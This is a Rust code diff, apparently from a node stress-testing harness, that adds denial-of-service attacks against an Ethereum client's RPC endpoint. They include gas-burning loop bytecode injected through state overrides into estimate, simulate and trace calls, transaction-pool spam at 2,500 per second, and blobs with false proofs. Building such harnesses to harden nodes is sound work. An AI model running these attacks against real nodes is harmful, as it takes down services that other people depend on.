@@ -17,6 +17,7 @@ use tokio::time::sleep;
 
 use crate::bystander::{ATTACKER, connect_from, request};
 use crate::http2::Connection;
+use crate::spam;
 use crate::victim::Victim;
 
 /// One way to attack.
@@ -58,6 +59,22 @@ enum Act {
     Halves,
     /// Holds eight memory files.
     HoldFiles,
+    /// Sends batches of this method, each call of which burns all gas that it may.
+    Bomb(Bomb),
+    /// Sends this many transactions a second to the pool.
+    Spam { rate: usize },
+    /// Sends blobs whose proofs are false.
+    FalseBlobs,
+}
+
+/// A method that runs code of whoever calls it.
+#[derive(Clone, Copy)]
+enum Bomb {
+    Estimate,
+    AccessList,
+    Simulate,
+    /// Struct logs with memory, stack and storage.
+    Trace,
 }
 
 const fn attack(name: &'static str, crowds: &'static [(usize, Act)]) -> Attack {
@@ -84,6 +101,11 @@ pub(crate) const ATTACKS: &[Attack] = &[
     attack("subscriptions", &[(1_000, Act::Subscribe)]),
     Attack { until_the_end: true, ..attack("stop", &[(40, Act::Halves), (1, Act::Burn)]) },
     low_descriptors("memory-files", &[(59, Act::HoldFiles)]),
+    attack("estimates", &[(16, Act::Bomb(Bomb::Estimate)), (16, Act::Bomb(Bomb::AccessList))]),
+    attack("simulations", &[(16, Act::Bomb(Bomb::Simulate))]),
+    attack("traces", &[(16, Act::Bomb(Bomb::Trace))]),
+    attack("spam", &[(4, Act::Spam { rate: 2_500 })]),
+    attack("false-blobs", &[(16, Act::FalseBlobs)]),
 ];
 
 /// The addresses of the node.
@@ -92,6 +114,7 @@ struct Target {
     http: SocketAddr,
     engine: SocketAddr,
     ipc: PathBuf,
+    chain_id: u64,
 }
 
 /// The tasks of an attack, which end when it is dropped. Their threads have the lowest priority:
@@ -113,7 +136,7 @@ impl Drop for Crowd {
 impl Crowd {
     pub(crate) async fn start(attack: &Attack, victim: &Victim) -> anyhow::Result<Self> {
         let (http, engine, ipc) = (victim.http, victim.engine, victim.ipc.clone());
-        let target = Target { http, engine, ipc };
+        let target = Target { http, engine, ipc, chain_id: victim.chain_id };
         let runtime = Builder::new_multi_thread().enable_all().on_thread_start(give_way).build()?;
         let mut tasks = JoinSet::new();
         for (count, act) in attack.crowds {
@@ -198,6 +221,15 @@ impl Act {
             }
             Self::Halves => send_half(target, index).await,
             Self::HoldFiles => hold_files(target).await,
+            Self::Bomb(bomb) => {
+                let batch = batch(20, &bomb.text());
+                talk(target.http, &request(batch.len() as u64, &batch)).await
+            }
+            Self::Spam { rate } => send_transfers(target, index, rate).await,
+            Self::FalseBlobs => {
+                let call = spam::false_blob(target.chain_id, index);
+                talk(target.http, &request(call.len() as u64, &call)).await
+            }
         }
     }
 }
@@ -212,6 +244,49 @@ async fn send_half(target: &Target, index: usize) -> anyhow::Result<()> {
         _ => HANDSHAKE,
     };
     talk(port, half).await
+}
+
+impl Bomb {
+    fn text(self) -> String {
+        let call = json!({"to": CONTRACT, "gas": "0x2faf080"});
+        // JUMPDEST, SLOAD of the gas that is left, POP, JUMP.
+        let overrides = json!({CONTRACT: {"code": "0x5b5a54505f56"}});
+        match self {
+            Self::Estimate => request_text("eth_estimateGas", &json!([call, "latest", overrides])),
+            Self::AccessList => {
+                request_text("eth_createAccessList", &json!([call, "latest", overrides]))
+            }
+            Self::Simulate => {
+                let block = json!({"stateOverrides": overrides, "calls": [call]});
+                let blocks = json!({"blockStateCalls": vec![block; 256]});
+                request_text("eth_simulateV1", &json!([blocks, "latest"]))
+            }
+            Self::Trace => {
+                let config = json!({"enableMemory": true, "stateOverrides": overrides});
+                request_text("debug_traceCall", &json!([call, "latest", config]))
+            }
+        }
+    }
+}
+
+/// Sends every fourth batch of the transfers, again and again, and reads what comes.
+async fn send_transfers(target: &Target, index: usize, rate: usize) -> anyhow::Result<()> {
+    let stream = connect_from(ATTACKER, target.http).await?;
+    let (mut answers, mut calls) = stream.into_split();
+    let sent = async {
+        loop {
+            for batch in spam::transfers(target.chain_id).iter().skip(index).step_by(4) {
+                calls.write_all(request(batch.len() as u64, batch).as_bytes()).await?;
+                sleep(Duration::from_secs_f64(spam::BATCH as f64 / rate as f64)).await;
+            }
+        }
+    };
+    let read = async {
+        let mut bytes = vec![0; 64 << 10];
+        while answers.read(&mut bytes).await? > 0 {}
+        anyhow::Ok(())
+    };
+    tokio::select! { ended = sent => ended, ended = read => ended }
 }
 
 async fn hold_files(target: &Target) -> anyhow::Result<()> {
